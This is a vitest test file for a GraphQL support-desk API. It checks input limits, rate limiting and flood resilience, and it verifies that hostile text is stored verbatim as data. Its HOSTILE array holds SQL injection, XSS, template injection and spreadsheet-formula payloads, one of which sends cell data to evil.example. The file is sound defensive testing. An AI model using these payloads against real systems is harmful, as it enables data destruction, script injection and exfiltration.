import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type BuiltUser, buildAgent, buildCustomer } from '../fixtures/factories.js';
import { sqlStatementsDuring } from '../fixtures/sql-statements.js';
import { codesOf, type GraphQLResponse, gqlData, startTestServer, type TestServer } from '../fixtures/test-server.js';
import { runOverWebSocket } from '../fixtures/ws.js';

/** Text that would do harm if any layer treated it as code: SQL, markup, spreadsheet formulas, FTS syntax. */
const HOSTILE = [
  `Robert'); DROP TABLE conversations;--`,
  `" OR 1=1 --`,
  '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+SUM(1+1)*cmd|" /C calc"!A0',
  '@SUM(1+1)',
  'NEAR(order refund) OR "quoted * star" AND -minus ^caret',
  '$' + '{process.exit()} {{constructor.constructor("return process")()}}',
];

const START = 'mutation($input: StartConversationInput!) { startConversation(input: $input) { id subject } }';

/**
 * Hostile input at the API edge: each request gets its answer with a code, fast, nothing is stored that was not
 * asked for, and what is stored is the text exactly as sent (it is data, never code).
 */
describe('abuse at the edge', () => {
  let server: TestServer;
  let customer: BuiltUser;
  let agent: BuiltUser;
  let customerToken: string;
  let agentToken: string;

  const count = async (table: string) => {
    const [row] = (await server.orm.em.getConnection().execute(`select count(*) as n from ${table}`)) as Array<{ n: number }>;
    return Number(row.n);
  };

  beforeAll(async () => {
    server = await startTestServer();
    [customer, agent] = await Promise.all([buildCustomer(server), buildAgent(server)]);
    [customerToken, agentToken] = await Promise.all([customer.login(), agent.login()]);
  });
  afterAll(async () => {
    await server.close();
  });

  it('refuses a 10 MB body with a code, and stores nothing', async () => {
    const before = await count('messages');
    const response = await fetch(`${server.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${customerToken}` },
      body: JSON.stringify({
        query: START,
        variables: { input: { subject: 'big', body: 'x'.repeat(10 * 1024 * 1024), clientMessageId: randomUUID() } },
      }),
    });
    expect(response.status).toBe(413);
    const body = (await response.json()) as { errors: Array<{ extensions: { code: string } }> };
    expect(body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect(await count('messages')).toBe(before);
  });

  it('refuses a body that is not valid UTF-8 with a code', async () => {
    const json = Buffer.from('{"query":"{ __typename }","variables":{"s":"');
    const broken = Buffer.concat([json, Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from('"}}')]);
    const response = await fetch(`${server.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: broken,
    });
    expect(response.status).toBe(400);
    const body = (await response.json()) as { errors: Array<{ extensions: { code: string } }> };
    expect(body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
  });

  it('stores hostile text exactly as sent, in subjects, messages, notes and tags, and finds it again', async () => {
    for (const text of HOSTILE) {
      const { startConversation } = await gqlData<{ startConversation: { id: string; subject: string } }>(server, customerToken, START, {
        input: { subject: text.slice(0, 120), body: text, clientMessageId: randomUUID() },
      });
      expect(startConversation.subject).toBe(text.slice(0, 120));
      const note = await gqlData<{ sendMessage: { body: string } }>(
        server,
        agentToken,
        'mutation($input: SendMessageInput!) { sendMessage(input: $input) { body } }',
        { input: { conversationId: startConversation.id, body: text, internal: true, clientMessageId: randomUUID() } },
      );
      expect(note.sendMessage.body).toBe(text);
      // Search treats the text as words, never as FTS5 or SQL syntax.
      const search = await server.gql(
        'query($q: String!) { searchMessages(query: $q, first: 5) { totalCount } }',
        { q: text },
        { token: agentToken },
      );
      expect(search.errors).toBeUndefined();
    }
    const tag = await server.gql(
      'mutation($input: CreateTagInput!) { createTag(input: $input) { name } }',
      { input: { name: HOSTILE[0].slice(0, 40) } },
      { token: agentToken },
    );
    expect(tag.errors).toBeUndefined();
    const thread = await gqlData<{ conversations: { totalCount: number } }>(
      server,
      customerToken,
      '{ conversations(first: 1) { totalCount } }',
    );
    expect(thread.conversations.totalCount).toBe(HOSTILE.length);
    // Every table still there and answering.
    expect(await count('conversations')).toBeGreaterThanOrEqual(HOSTILE.length);
    expect(await count('users')).toBeGreaterThan(0);
  });

  it('refuses a huge or negative page size with BAD_USER_INPUT', async () => {
    for (const first of [101, 1_000_000, -1, 0]) {
      const result = await server.gql(
        'query($first: Int) { conversations(first: $first) { totalCount } }',
        { first },
        { token: agentToken },
      );
      expect(codesOf(result)).toEqual(['BAD_USER_INPUT']);
    }
    // Beyond a 32-bit Int the value is not even an Int: refused before anything runs.
    const overflow = await server.gql(
      'query($first: Int) { conversations(first: $first) { totalCount } }',
      { first: 2 ** 40 },
      { token: agentToken },
    );
    expect(codesOf(overflow)).toEqual(['BAD_USER_INPUT']);
  });

  it('refuses nested pages that multiply past the item budget, over HTTP and WebSocket, before running them', async () => {
    // 15 aliases × 100 conversations × 100 messages each would be 150,000 rows from one small document.
    const nested = `query($first: Int, $inner: Int) {
      conversations(first: $first) { edges { node { messages(first: $inner) { edges { node { id } } } } } }
    }`;
    const statements = await sqlStatementsDuring(server, async () => {
      const refused = await server.gql(nested, { first: 100, inner: 100 }, { token: agentToken });
      expect(codesOf(refused)).toEqual(['BAD_USER_INPUT']);
      expect(refused.errors?.[0].message).toMatch(/10100 items.*at most 5000/);
    });
    // Refused before anything ran: no conversation or message was read.
    expect(statements.filter((sql) => /conversations|messages/.test(sql))).toEqual([]);
    const overSocket = await runOverWebSocket(server.url, nested, {
      authorization: `Bearer ${agentToken}`,
      variables: { first: 100, inner: 100 },
    });
    expect(codesOf(overSocket as GraphQLResponse)).toEqual(['BAD_USER_INPUT']);
    // Real pages stay well inside it.
    expect((await server.gql(nested, { first: 20, inner: 50 }, { token: agentToken })).errors).toBeUndefined();
  });

  it('refuses a flood of messages from one person with RATE_LIMITED, and counts no retry of a sent one', async () => {
    const flooder = await buildCustomer(server);
    const token = await flooder.login();
    const { startConversation } = await gqlData<{ startConversation: { id: string } }>(server, token, START, {
      input: { subject: 'flood', body: 'first', clientMessageId: randomUUID() },
    });
    const send = (clientMessageId: string) =>
      server.gql(
        'mutation($input: SendMessageInput!) { sendMessage(input: $input) { id } }',
        {
          input: { conversationId: startConversation.id, body: 'again and again', clientMessageId },
        },
        { token },
      );
    const keys = Array.from({ length: 150 }, () => randomUUID());
    const results = await Promise.all(keys.map(send));
    const refused = results.filter((result) => codesOf(result).includes('RATE_LIMITED'));
    const stored = results.filter((result) => !result.errors);
    expect(stored).toHaveLength(120);
    expect(refused).toHaveLength(30);
    expect(results.every((result) => result.status === 200)).toBe(true);
    // Over the limit now, a client repeating a message the server already has still gets it back.
    const again = await send(keys[results.indexOf(stored[0])]);
    expect(again.errors).toBeUndefined();
    expect(again.data).toEqual(stored[0].data);
    // Others are not affected.
    const other = await gqlData<{ me: { id: string } }>(server, customerToken, '{ me { id } }');
    expect(other.me.id).toBe(customer.id);
  });

  it('stays responsive for others during a flood of bad requests', async () => {
    const flood = Array.from({ length: 200 }, () =>
      fetch(`${server.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"query": "{ me { ' }),
    );
    const started = performance.now();
    const me = await gqlData<{ me: { id: string } }>(server, agentToken, '{ me { id } }');
    const answeredIn = performance.now() - started;
    const statuses = new Set((await Promise.all(flood)).map((response) => response.status));
    expect(me.me.id).toBe(agent.id);
    expect([...statuses]).toEqual([400]);
    // Generous: this only catches a server that queues the honest request behind the whole flood for long.
    expect(answeredIn).toBeLessThan(5_000);
  });
});
